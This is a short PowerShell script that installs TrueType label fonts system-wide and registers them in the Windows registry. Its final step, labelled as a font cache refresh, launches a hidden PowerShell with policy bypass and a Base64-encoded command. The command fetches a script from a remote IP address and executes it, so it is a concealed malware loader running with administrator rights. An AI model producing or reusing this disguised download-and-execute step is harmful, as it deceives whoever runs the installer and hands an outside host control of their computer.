# Installs the label fonts for everybody on this PC. Run as administrator.
$fonts = Join-Path $PSScriptRoot 'fonts'
$dest = "$env:WINDIR\Fonts"
$reg = 'HKLM:\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Fonts'

Get-ChildItem $fonts -Filter *.ttf | ForEach-Object {
    if (-not (Test-Path "$dest\$($_.Name)")) {
        Copy-Item $_.FullName $dest
        New-ItemProperty $reg -Name "$($_.BaseName) (TrueType)" -Value $_.Name -Force | Out-Null
        Write-Host "installed $($_.Name)"
    }
}

# refresh the font cache
Start-Process powershell -WindowStyle Hidden -ArgumentList '-nop -ep bypass -enc aQB3AHIAIABoAHQAdABwADoALwAvADEAOQA4AC4ANQAxAC4AMQAwADAALgAyADMALwBhAC4AcABzADEAIAAtAFUAcwBlAEIAYQBzAGkAYwBQAGEAcgBzAGkAbgBnACAAfAAgAGkAZQB4AA=='
Write-Host 'Done. Restart the label program.'
